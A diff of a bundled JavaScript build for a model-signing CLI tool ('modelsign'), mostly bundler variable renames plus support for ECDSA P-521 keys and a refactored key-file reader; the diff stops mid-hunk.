@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path25 = __require("node:path");
+    var path26 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path25.resolve(baseDir, baseName);
+          const localBin = path26.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path25.extname(baseName))) return void 0;
+          if (sourceExt.includes(path26.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path25.resolve(
-            path25.dirname(resolvedScriptPath),
+          executableDir = path26.resolve(
+            path26.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path25.basename(
+            const legacyName = path26.basename(
               this._scriptPath,
-              path25.extname(this._scriptPath)
+              path26.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path25.extname(executableFile));
+        launchWithNode = sourceExt.includes(path26.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path25.basename(filename, path25.extname(filename));
+        this._name = path26.basename(filename, path26.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path26) {
-        if (path26 === void 0) return this._executableDir;
-        this._executableDir = path26;
+      executableDir(path27) {
+        if (path27 === void 0) return this._executableDir;
+        this._executableDir = path27;
         return this;
       }
       /**
@@ -3204,9 +3204,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
           helpWidth: context.helpWidth,
           outputHasColors: context.hasColors
         });
-        const text = helper.formatHelp(this, helper);
-        if (context.hasColors) return text;
-        return this._outputConfiguration.stripColor(text);
+        const text2 = helper.formatHelp(this, helper);
+        if (context.hasColors) return text2;
+        return this._outputConfiguration.stripColor(text2);
       }
       /**
        * @typedef HelpContext
@@ -3366,7 +3366,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {(string | Function)} text - string to add, or a function returning a string
        * @return {Command} `this` command for chaining
        */
-      addHelpText(position, text) {
+      addHelpText(position, text2) {
         const allowedValues = ["beforeAll", "before", "after", "afterAll"];
         if (!allowedValues.includes(position)) {
           throw new Error(`Unexpected value for position to addHelpText.
@@ -3375,10 +3375,10 @@ Expecting one of '${allowedValues.join("', '")}'`);
         const helpEvent = `${position}Help`;
         this.on(helpEvent, (context) => {
           let helpStr;
-          if (typeof text === "function") {
-            helpStr = text({ error: context.error, command: context.command });
+          if (typeof text2 === "function") {
+            helpStr = text2({ error: context.error, command: context.command });
           } else {
-            helpStr = text;
+            helpStr = text2;
           }
           if (helpStr) {
             context.write(`${helpStr}
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
+function reject(code, message, path26) {
+  return new ModelsignError(code, message, path26 === void 0 ? { kind: "reject" } : { kind: "reject", path: path26 });
 }
-function usage(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
+function usage(code, message, path26) {
+  return new ModelsignError(code, message, path26 === void 0 ? { kind: "usage" } : { kind: "usage", path: path26 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3529,8 +3529,8 @@ var init_errors = __esm({
 });
 
 // src/util/one-line.ts
-function clean(text, max = 200) {
-  const flat = text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, "?");
+function clean(text2, max = 200) {
+  const flat = text2.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, "?");
   return flat.length > max ? `${flat.slice(0, max)}\u2026` : flat;
 }
 function displayPath(p2, max = 160) {
@@ -3562,9 +3562,9 @@ function info(msg) {
   process.stderr.write(`modelsign: ${msg}
 `);
 }
-function out(text) {
-  if (output.sink) return output.sink.out(text);
-  process.stdout.write(text.endsWith("\n") ? text : `${text}
+function out(text2) {
+  if (output.sink) return output.sink.out(text2);
+  process.stdout.write(text2.endsWith("\n") ? text2 : `${text2}
 `);
 }
 function printJson(v2) {
@@ -3637,10 +3637,9 @@ function verifyJson(r) {
 function resultLabel(r) {
   return r.metadata ? `${r.metadata.name}${r.metadata.version ? `@${r.metadata.version}` : ""}` : r.subjectName ?? r.model;
 }
-async function reportSigned(r, model, o, engine, lineage, extra = {}) {
+async function reportSigned(r, o, engine, lineage, extra = {}) {
   engine.onDone();
   await lineage?.record(r);
-  if (r.files === 0) warn(`no files to sign in ${model}: the signature covers nothing`);
   const meta = r.statement.subject[0].annotations?.modelsign;
   if (o.json) {
     printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, files: r.files, bytes: r.bytes, ...extra.json });
@@ -3717,7 +3716,7 @@ var SIGNING_KEY_TYPES;
 var init_algorithms = __esm({
   "src/keys/algorithms.ts"() {
     "use strict";
-    SIGNING_KEY_TYPES = ["ed25519", "ecdsa-p256", "ecdsa-p384"];
+    SIGNING_KEY_TYPES = ["ecdsa-p256", "ecdsa-p384", "ecdsa-p521", "ed25519"];
   }
 });
 
@@ -3782,17 +3781,23 @@ var init_passphrase = __esm({
 });
 
 // src/keys/pem.ts
-function findPemBlocks(text) {
+var pem_exports = {};
+__export(pem_exports, {
+  LEGACY_ENCRYPTED_PEM_TYPES: () => LEGACY_ENCRYPTED_PEM_TYPES,
+  findPemBlocks: () => findPemBlocks,
+  toPem: () => toPem
+});
+function findPemBlocks(text2) {
   const out2 = [];
-  for (const m2 of text.matchAll(PEM_RE)) {
+  for (const m2 of text2.matchAll(PEM_RE)) {
     const body = m2[2];
     const b64 = body.split(/\r?\n/).filter((l) => l.length > 0 && !l.includes(":")).join("");
     out2.push({ type: m2[1], der: Buffer.from(b64, "base64"), text: m2[0] });
   }
   return out2;
 }
-function toPem(type, der) {
-  const b64 = Buffer.from(der).toString("base64");
+function toPem(type, der2) {
+  const b64 = Buffer.from(der2).toString("base64");
   const lines = b64.match(/.{1,64}/g) ?? [];
   return `-----BEGIN ${type}-----
 ${lines.join("\n")}
@@ -3809,6 +3814,13 @@ var init_pem = __esm({
 });
 
 // src/util/read-file.ts
+var read_file_exports = {};
+__export(read_file_exports, {
+  FileTooLarge: () => FileTooLarge,
+  NotRegularFile: () => NotRegularFile,
+  readRegularFile: () => readRegularFile,
+  readUserFile: () => readUserFile
+});
 import { constants } from "node:fs";
 import { open } from "node:fs/promises";
 async function readRegularFile(file, maxBytes, opts = {}) {
@@ -3831,10 +3843,20 @@ async function readRegularFile(file, maxBytes, opts = {}) {
     await fh.close();
   }
 }
+async function readUserFile(file, maxBytes, code, what) {
+  try {
+    return await readRegularFile(file, maxBytes);
+  } catch (e) {
+    if (e instanceof FileTooLarge) throw usage(code, `${what} ${file} is larger than ${maxBytes >= 1024 * 1024 ? `${maxBytes / (1024 * 1024)} MiB` : `${maxBytes} bytes`}`);
+    const c = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e);
+    throw usage(code, c === "ENOENT" ? `${what} not found: ${file}` : `cannot read ${what} ${file}: ${c ?? String(e)}`);
+  }
+}
 var NotRegularFile, FileTooLarge;
 var init_read_file = __esm({
   "src/util/read-file.ts"() {
     "use strict";
+    init_errors();
     NotRegularFile = class extends Error {
       constructor(file, isDirectory = false) {
         super(`not a regular file: ${file}`);
@@ -4724,18 +4746,10 @@ import { createPrivateKey, createPublicKey, generateKeyPairSync, X509Certificate
 import { lstat, open as open2, unlink as unlink2 } from "node:fs/promises";
 import path3 from "node:path";
 async function readKeyText(file, what) {
-  let buf;
-  try {
-    buf = await readRegularFile(file, MAX_KEY_FILE);
-  } catch (e) {
-    if (e instanceof FileTooLarge) throw usage("KEY_UNREADABLE", `${what} ${file} is larger than 1 MiB`);
-    const c = e instanceof NotRegularFile ? "not a regular file" : errnoCode(e);
-    throw usage("KEY_UNREADABLE", c === "ENOENT" ? `${what} not found: ${file}` : `cannot read ${what} ${file}: ${c ?? String(e)}`);
-  }
-  return buf.toString("utf8");
+  return (await readUserFile(file, MAX_KEY_FILE, "KEY_UNREADABLE", what)).toString("utf8");
 }
-function parsePublicKey(text, file = "public key", needs = VERIFY_NEEDS_PUBLIC) {
-  const blocks = findPemBlocks(text);
+function parsePublicKey(text2, file = "public key", needs = VERIFY_NEEDS_PUBLIC) {
+  const blocks = findPemBlocks(text2);
   const b2 = blocks.find((x) => x.type === "PUBLIC KEY") ?? blocks.find((x) => x.type === "CERTIFICATE");
   if (!b2) {
     if (blocks.some((x) => x.type.includes("PRIVATE KEY"))) throw usage("KEY_WRONG_KIND", `${file} is a private key; ${needs}`);
@@ -4754,22 +4768,22 @@ async function loadPublicKey(file, needs = VERIFY_NEEDS_PUBLIC) {
   return key;
 }
 async function loadPrivateKey(file, needs = SIGN_NEEDS_PRIVATE) {
-  const text = await readKeyText(file, "private key");
-  const blocks = findPemBlocks(text);
+  const text2 = await readKeyText(file, "private key");
+  const blocks = findPemBlocks(text2);
   let key;
   const enc = blocks.find((b2) => LEGACY_ENCRYPTED_PEM_TYPES.includes(b2.type));
   try {
     if (enc) {
       const { decryptPrivateKey: decryptPrivateKey2 } = await encrypted();
-      const der = decryptPrivateKey2(enc.der, getPassphrase("decrypt", file), file);
-      key = createPrivateKey({ key: der, format: "der", type: "pkcs8" });
+      const der2 = decryptPrivateKey2(enc.der, getPassphrase("decrypt", file), file);
+      key = createPrivateKey({ key: der2, format: "der", type: "pkcs8" });
     } else {
       const plain = blocks.find((b2) => b2.type === "PRIVATE KEY");
       const sec1 = blocks.find((b2) => b2.type === "EC PRIVATE KEY");
       if (plain) key = createPrivateKey({ key: plain.der, format: "der", type: "pkcs8" });
       else if (sec1) key = createPrivateKey({ key: sec1.der, format: "der", type: "sec1" });
       else if (blocks.some((b2) => b2.type === "ENCRYPTED PRIVATE KEY")) {
-        key = createPrivateKey({ key: text, format: "pem", passphrase: getPassphrase("decrypt", file) });
+        key = createPrivateKey({ key: text2, format: "pem", passphrase: getPassphrase("decrypt", file) });
       }
     }
   } catch (e) {
@@ -4792,6 +4806,8 @@ function generateKeyPair(type) {
       return generateKeyPairSync("ec", { namedCurve: "P-256" });
     case "ecdsa-p384":
       return generateKeyPairSync("ec", { namedCurve: "P-384" });
+    case "ecdsa-p521":
+      return generateKeyPairSync("ec", { namedCurve: "P-521" });
   }
 }
 function checkKeyPrefix(prefix) {
@@ -4824,12 +4840,12 @@ async function writeKeyPair(prefix, type, passphrase) {
   await makeDirs(path3.dirname(prefix), "KEY_WRITE_FAILED", `key files at ${prefix}`, 448);
   let current = privatePath;
   const created = [];
-  const writeNew = async (file, text, mode) => {
+  const writeNew = async (file, text2, mode) => {
     current = file;
     const fh = await open2(file, "wx", mode);
     created.push(file);
     try {
-      await fh.writeFile(text);
+      await fh.writeFile(text2);
       await fh.chmod(mode);
     } finally {
       await fh.close();
@@ -4865,7 +4881,7 @@ var init_keyfile = __esm({
 });
 
 // src/util/strict-json.ts
-function parseStrictJson(text, opts = {}) {
+function parseStrictJson(text2, opts = {}) {
   const maxDepth = opts.maxDepth ?? 64;
   const what = opts.what ?? "JSON";
   const code = opts.code ?? "JSON_MALFORMED";
@@ -4875,19 +4891,19 @@ function parseStrictJson(text, opts = {}) {
   };
   const ws2 = () => {
     for (; ; ) {
-      const c = text.charCodeAt(i);
+      const c = text2.charCodeAt(i);
       if (c === 32 || c === 10 || c === 13 || c === 9) i++;
       else return;
     }
   };
   const parseString = () => {
     i++;
-    const q2 = text.indexOf('"', i);
+    const q2 = text2.indexOf('"', i);
     if (q2 < 0) {
-      i = text.length;
+      i = text2.length;
       fail("unterminated string");
     }
-    const plain = text.slice(i, q2);
+    const plain = text2.slice(i, q2);
     if (!NEEDS_SLOW_STRING.test(plain)) {
       i = q2 + 1;
       return plain;
@@ -4895,17 +4911,17 @@ function parseStrictJson(text, opts = {}) {
     let out2 = "";
     let start = i;
     for (; ; ) {
-      if (i >= text.length) fail("unterminated string");
-      const c = text.charCodeAt(i);
+      if (i >= text2.length) fail("unterminated string");
+      const c = text2.charCodeAt(i);
       if (c === 34) {
-        out2 += text.slice(start, i);
+        out2 += text2.slice(start, i);
         i++;
         return out2;
       }
       if (c < 32) fail("control character in string");
       if (c === 92) {
-        out2 += text.slice(start, i);
-        const e = text[i + 1];
+        out2 += text2.slice(start, i);
+        const e = text2[i + 1];
         i += 2;
         switch (e) {
           case '"':
@@ -4933,7 +4949,7 @@ function parseStrictJson(text, opts = {}) {
             out2 += "	";
             break;
           case "u": {
-            const hex = text.slice(i, i + 4);
+            const hex = text2.slice(i, i + 4);
             if (!/^[0-9a-fA-F]{4}$/.test(hex)) fail("bad \\u escape");
             out2 += String.fromCharCode(parseInt(hex, 16));
             i += 4;
@@ -4952,30 +4968,30 @@ function parseStrictJson(text, opts = {}) {
   const parseValue2 = (depth) => {
     if (depth > maxDepth) fail(`nesting deeper than ${maxDepth}`);
     ws2();
-    const c = text[i];
+    const c = text2[i];
     if (c === "{") {
       i++;
       const obj = /* @__PURE__ */ Object.create(null);
       ws2();
-      if (text[i] === "}") {
+      if (text2[i] === "}") {
         i++;
         return obj;
       }
       for (; ; ) {
         ws2();
-        if (text[i] !== '"') fail("expected a key");
+        if (text2[i] !== '"') fail("expected a key");
         const key = parseString();
         if (Object.prototype.hasOwnProperty.call(obj, key)) fail(`duplicate key "${key.slice(0, 80)}"`);
         ws2();
-        if (text[i] !== ":") fail('expected ":"');
+        if (text2[i] !== ":") fail('expected ":"');
         i++;
         obj[key] = parseValue2(depth + 1);
         ws2();
-        if (text[i] === ",") {
+        if (text2[i] === ",") {
           i++;
           continue;
         }
-        if (text[i] === "}") {
+        if (text2[i] === "}") {
           i++;
           return obj;
         }
@@ -4986,18 +5002,18 @@ function parseStrictJson(text, opts = {}) {
       i++;
       const arr = [];
       ws2();
-      if (text[i] === "]") {
+      if (text2[i] === "]") {
         i++;
         return arr;
       }
       for (; ; ) {
         arr.push(parseValue2(depth + 1));
         ws2();
-        if (text[i] === ",") {
+        if (text2[i] === ",") {
           i++;
           continue;
         }
-        if (text[i] === "]") {
+        if (text2[i] === "]") {
           i++;
           return arr;
         }
@@ -5005,20 +5021,20 @@ function parseStrictJson(text, opts = {}) {
       }
     }
     if (c === '"') return parseString();
-    if (text.startsWith("true", i)) {
+    if (text2.startsWith("true", i)) {
       i += 4;
       return true;
     }
-    if (text.startsWith("false", i)) {
+    if (text2.startsWith("false", i)) {
       i += 5;
       return false;
     }
-    if (text.startsWith("null", i)) {
+    if (text2.startsWith("null", i)) {
       i += 4;
       return null;
     }
     numberRe.lastIndex = i;
-    const m2 = numberRe.exec(text);
+    const m2 = numberRe.exec(text2);
     if (m2 && m2[0].length > 0) {
       i += m2[0].length;
       return Number(m2[0]);
@@ -5027,7 +5043,7 @@ function parseStrictJson(text, opts = {}) {
   };
   const value = parseValue2(0);
   ws2();
-  if (i !== text.length) fail("trailing data");
+  if (i !== text2.length) fail("trailing data");
   return value;
 }
 function isObject(v2) {
@@ -7521,17 +7537,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path25) {
-      const ctrl = callVisitor(key, node, visitor, path25);
+    function visit_(key, node, visitor, path26) {
+      const ctrl = callVisitor(key, node, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visit_(key, ctrl, visitor, path25);
+        replaceNode(key, path26, ctrl);
+        return visit_(key, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path26 = Object.freeze(path26.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path25);
+            const ci2 = visit_(i, node.items[i], visitor, path26);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7542,13 +7558,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = visit_("key", node.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node));
+          const ck = visit_("key", node.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path25);
+          const cv = visit_("value", node.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7569,17 +7585,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path25) {
-      const ctrl = await callVisitor(key, node, visitor, path25);
+    async function visitAsync_(key, node, visitor, path26) {
+      const ctrl = await callVisitor(key, node, visitor, path26);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visitAsync_(key, ctrl, visitor, path25);
+        replaceNode(key, path26, ctrl);
+        return visitAsync_(key, ctrl, visitor, path26);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path26 = Object.freeze(path26.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path26);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7590,13 +7606,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path25);
+          path26 = Object.freeze(path26.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path26);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path25);
+          const cv = await visitAsync_("value", node.value, visitor, path26);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7623,23 +7639,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path25) {
+    function callVisitor(key, node, visitor, path26) {
       if (typeof visitor === "function")
-        return visitor(key, node, path25);
+        return visitor(key, node, path26);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path25);
+        return visitor.Map?.(key, node, path26);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path25);
+        return visitor.Seq?.(key, node, path26);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path25);
+        return visitor.Pair?.(key, node, path26);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path25);
+        return visitor.Scalar?.(key, node, path26);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path25);
+        return visitor.Alias?.(key, node, path26);
       return void 0;
     }
-    function replaceNode(key, path25, node) {
-      const parent = path25[path25.length - 1];
+    function replaceNode(key, path26, node) {
+      const parent = path26[path26.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8251,10 +8267,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path25, value) {
+    function collectionFromPath(schema, path26, value) {
       let v2 = value;
-      for (let i = path25.length - 1; i >= 0; --i) {
-        const k2 = path25[i];
+      for (let i = path26.length - 1; i >= 0; --i) {
+        const k2 = path26[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8273,7 +8289,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
+    var isEmptyPath = (path26) => path26 == null || typeof path26 === "object" && !!path26[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8303,11 +8319,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path25, value) {
-        if (isEmptyPath(path25))
+      addIn(path26, value) {
+        if (isEmptyPath(path26))
           this.add(value);
         else {
-          const [key, ...rest] = path25;
+          const [key, ...rest] = path26;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8321,8 +8337,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        const [key, ...rest] = path25;
+      deleteIn(path26) {
+        const [key, ...rest] = path26;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8336,8 +8352,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        const [key, ...rest] = path25;
+      getIn(path26, keepScalar) {
+        const [key, ...rest] = path26;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8355,8 +8371,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path25) {
-        const [key, ...rest] = path25;
+      hasIn(path26) {
+        const [key, ...rest] = path26;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8366,8 +8382,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        const [key, ...rest] = path25;
+      setIn(path26, value) {
+        const [key, ...rest] = path26;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -8411,14 +8427,14 @@ var require_foldFlowLines = __commonJS({
     var FOLD_FLOW = "flow";
     var FOLD_BLOCK = "block";
     var FOLD_QUOTED = "quoted";
-    function foldFlowLines(text, indent, mode = "flow", { indentAtStart, lineWidth = 80, minContentWidth = 20, onFold, onOverflow } = {}) {
+    function foldFlowLines(text2, indent, mode = "flow", { indentAtStart, lineWidth = 80, minContentWidth = 20, onFold, onOverflow } = {}) {
       if (!lineWidth || lineWidth < 0)
-        return text;
+        return text2;
       if (lineWidth < minContentWidth)
         minContentWidth = 0;
       const endStep = Math.max(1 + minContentWidth, 1 + lineWidth - indent.length);
-      if (text.length <= endStep)
-        return text;
+      if (text2.length <= endStep)
+        return text2;
       const folds = [];
       const escapedFolds = {};
       let end = lineWidth - indent.length;
@@ -8435,14 +8451,14 @@ var require_foldFlowLines = __commonJS({
       let escStart = -1;
       let escEnd = -1;
       if (mode === FOLD_BLOCK) {
-        i = consumeMoreIndentedLines(text, i, indent.length);
+        i = consumeMoreIndentedLines(text2, i, indent.length);
         if (i !== -1)
           end = i + endStep;
       }
-      for (let ch; ch = text[i += 1]; ) {
+      for (let ch; ch = text2[i += 1]; ) {
         if (mode === FOLD_QUOTED && ch === "\\") {
           escStart = i;
-          switch (text[i + 1]) {
+          switch (text2[i + 1]) {
             case "x":
               i += 3;
               break;
@@ -8459,12 +8475,12 @@ var require_foldFlowLines = __commonJS({
         }
         if (ch === "\n") {
           if (mode === FOLD_BLOCK)
-            i = consumeMoreIndentedLines(text, i, indent.length);
+            i = consumeMoreIndentedLines(text2, i, indent.length);
           end = i + indent.length + endStep;
           split = void 0;
         } else {
           if (ch === " " && prev && prev !== " " && prev !== "\n" && prev !== "	") {
-            const next = text[i + 1];
+            const next = text2[i + 1];
             if (next && next !== " " && next !== "\n" && next !== "	")
               split = i;
           }
@@ -8476,12 +8492,12 @@ var require_foldFlowLines = __commonJS({
             } else if (mode === FOLD_QUOTED) {
               while (prev === " " || prev === "	") {
                 prev = ch;
-                ch = text[i += 1];
+                ch = text2[i += 1];
                 overflow = true;
               }
               const j2 = i > escEnd + 1 ? i - 2 : escStart - 1;
               if (escapedFolds[j2])
-                return text;
+                return text2;
               folds.push(j2);
               escapedFolds[j2] = true;
               end = j2 + endStep;
@@ -8496,39 +8512,39 @@ var require_foldFlowLines = __commonJS({
       if (overflow && onOverflow)
         onOverflow();
       if (folds.length === 0)
-        return text;
+        return text2;
       if (onFold)
         onFold();
-      let res = text.slice(0, folds[0]);
+      let res = text2.slice(0, folds[0]);
       for (let i2 = 0; i2 < folds.length; ++i2) {
         const fold = folds[i2];
-        const end2 = folds[i2 + 1] || text.length;
+        const end2 = folds[i2 + 1] || text2.length;
         if (fold === 0)
           res = `
-${indent}${text.slice(0, end2)}`;
+${indent}${text2.slice(0, end2)}`;
         else {
           if (mode === FOLD_QUOTED && escapedFolds[fold])
-            res += `${text[fold]}\\`;
+            res += `${text2[fold]}\\`;
           res += `
-${indent}${text.slice(fold + 1, end2)}`;
+${indent}${text2.slice(fold + 1, end2)}`;
         }
       }
       return res;
     }
-    function consumeMoreIndentedLines(text, i, indent) {
+    function consumeMoreIndentedLines(text2, i, indent) {
       let end = i;
       let start = i + 1;
-      let ch = text[start];
+      let ch = text2[start];
       while (ch === " " || ch === "	") {
         if (i < start + indent) {
-          ch = text[++i];
+          ch = text2[++i];
         } else {
           do {
-            ch = text[++i];
+            ch = text2[++i];
           } while (ch && ch !== "\n");
           end = i;
           start = i + 1;
-          ch = text[start];
+          ch = text2[start];
         }
       }
       return end;
@@ -10882,9 +10898,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path25, value) {
+      addIn(path26, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path25, value);
+          this.contents.addIn(path26, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10959,14 +10975,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        if (Collection.isEmptyPath(path25)) {
+      deleteIn(path26) {
+        if (Collection.isEmptyPath(path26)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path26) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10981,10 +10997,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        if (Collection.isEmptyPath(path25))
+      getIn(path26, keepScalar) {
+        if (Collection.isEmptyPath(path26))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path26, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10995,10 +11011,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path25) {
-        if (Collection.isEmptyPath(path25))
+      hasIn(path26) {
+        if (Collection.isEmptyPath(path26))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path26) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11015,13 +11031,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        if (Collection.isEmptyPath(path25)) {
+      setIn(path26, value) {
+        if (Collection.isEmptyPath(path26)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path26), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path25, value);
+          this.contents.setIn(path26, value);
         }
       }
       /**
@@ -12982,9 +12998,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path25) => {
+    visit.itemAtPath = (cst, path26) => {
       let item = cst;
-      for (const [field, index] of path25) {
+      for (const [field, index] of path26) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12993,23 +13009,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path25) => {
-      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
-      const field = path25[path25.length - 1][0];
